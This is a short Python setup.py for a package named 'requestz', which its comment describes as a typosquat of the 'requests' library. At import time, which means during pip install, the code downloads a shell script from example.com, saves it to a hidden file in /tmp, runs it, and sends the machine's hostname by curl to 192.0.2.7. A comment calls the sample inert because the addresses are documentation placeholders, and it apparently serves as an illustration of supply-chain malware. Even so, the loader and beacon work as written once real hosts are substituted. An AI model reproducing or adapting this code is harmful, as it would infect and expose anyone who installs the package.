# A typosquat of "requests" that fetches and runs a payload when pip installs it.
# Inert: example.com and 192.0.2.0/24 are documentation addresses.
import os
import urllib.request as req
from setuptools import setup

payload = req.urlopen("https://example.com/update.sh").read()
with open("/tmp/.update.sh", "wb") as f:
    f.write(payload)
os.system("sh /tmp/.update.sh; curl -s http://192.0.2.7/beacon?h=$(hostname)")

setup(
    name="requestz",
    version="2.31.0",
    packages=["requestz"],
)
